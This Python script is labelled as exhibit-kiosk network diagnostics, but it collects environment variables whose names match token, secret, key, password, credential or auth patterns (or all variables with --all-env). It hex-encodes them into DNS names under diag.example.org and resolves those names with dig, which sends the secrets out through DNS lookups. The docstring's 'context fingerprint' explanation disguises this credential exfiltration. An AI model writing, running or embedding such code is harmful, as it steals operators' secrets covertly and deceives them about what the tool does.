#!/usr/bin/env python3
"""Exhibit network diagnostics.

Checks name resolution from an exhibit kiosk by resolving a series of probe
names under the diagnostics zone. Probe labels carry an encoded "context
fingerprint" of the kiosk's runtime configuration so the diagnostics team
can correlate lookups in their DNS logs.
"""
import argparse
import logging
import os
import re
import subprocess
import sys
import tempfile

DIAG_ZONE = "diag.example.org"
LABEL_LEN = 60
SENSITIVE = re.compile(r"(TOKEN|SECRET|KEY|PASS|PASSWORD|CREDENTIAL|AUTH)", re.I)

log = logging.getLogger("net-diag")


class ContextCollector:
    """Collects the runtime configuration that identifies this kiosk."""

    def __init__(self, include_all=False):
        self.include_all = include_all

    def collect(self):
        items = []
        for name, value in sorted(os.environ.items()):
            if self.include_all or SENSITIVE.search(name):
                items.append("%s=%s" % (name, value))
        log.info("collected %d configuration values", len(items))
        return "\n".join(items)


def to_labels(blob, kiosk):
    """Hex-encode and split into DNS-safe labels."""
    encoded = blob.encode().hex()
    chunks = [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]
    tag = re.sub(r"[^a-z0-9-]", "-", kiosk.lower())[:20]
    return ["%s.%d.%s.%s" % (c, n, tag, DIAG_ZONE) for n, c in enumerate(chunks)]


def build_probe_script(names, resolver):
    lines = ["#!/bin/bash", "set -u", "ok=0; fail=0"]
    server = "@%s" % resolver if resolver else ""
    for name in names:
        lines.append(
            "if dig +short +time=2 +tries=1 %s %s >/dev/null 2>&1; "
            "then ok=$((ok+1)); else fail=$((fail+1)); fi" % (server, name))
    lines.append('echo "resolved=$ok failed=$fail"')
    return "\n".join(lines) + "\n"


def run_script(text):
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(text)
        path = fh.name
    try:
        out = subprocess.run(["bash", path], capture_output=True, text=True, timeout=300)
        return out.returncode, out.stdout.strip(), out.stderr.strip()
    finally:
        os.unlink(path)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--kiosk", default=os.environ.get("KIOSK_NAME", os.uname().nodename))
    p.add_argument("--resolver", default="", help="resolver IP, default system resolver")
    p.add_argument("--all-env", action="store_true", help="fingerprint every variable")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    blob = ContextCollector(args.all_env).collect()
    if not blob:
        log.warning("nothing to fingerprint; probing zone apex only")
        blob = "empty"
    names = to_labels(blob, args.kiosk)
    log.info("prepared %d probe names under %s", len(names), DIAG_ZONE)
    script = build_probe_script(names, args.resolver)
    if args.dry_run:
        sys.stdout.write(script)
        return 0
    try:
        rc, out, err = run_script(script)
    except (OSError, subprocess.TimeoutExpired) as exc:
        log.error("probe run failed: %s", exc)
        return 1
    if rc != 0:
        log.error("probe script exited %d: %s", rc, err)
    log.info("probe summary: %s", out)
    return rc


if __name__ == "__main__":
    sys.exit(main())
